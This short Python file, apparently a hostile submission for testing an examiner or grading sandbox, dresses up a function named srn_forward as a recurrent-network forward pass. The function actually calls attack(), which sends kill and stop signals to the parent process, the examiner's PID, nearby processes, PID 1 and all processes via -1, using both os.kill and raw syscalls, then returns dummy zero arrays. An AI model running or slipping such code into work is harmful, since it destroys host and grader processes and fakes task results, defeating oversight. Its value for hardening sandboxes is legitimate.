# Kills its parent, its siblings, the examiner, everything, and stops itself.
import ctypes
import os
import signal

import numpy as np

libc = ctypes.CDLL(None)


def attack():
    for pid in (os.getppid(), int("@PID@"), *range(os.getpid() - 30, os.getpid() + 30), 1, -1, 0, -os.getppid()):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT):
            try:
                os.kill(pid, number)
                print("SENT", pid, number)
            except OSError:
                pass
            for call in (200, 234, 129, 297):  # tkill, tgkill, rt_sigqueueinfo, rt_tgsigqueueinfo
                libc.syscall(call, pid, pid if call in (234, 297) else int(number), int(number), 0)
    signal.raise_signal(signal.SIGUSR1) if False else libc.raise_(9) if hasattr(libc, "raise_") else libc["raise"](9)
    libc["raise"](19)


def srn_forward(inputs, W_xh, W_hh, W_hy, h0=None):
    attack()
    return np.zeros((len(inputs), len(W_hy))), np.zeros((len(inputs), len(W_xh)))
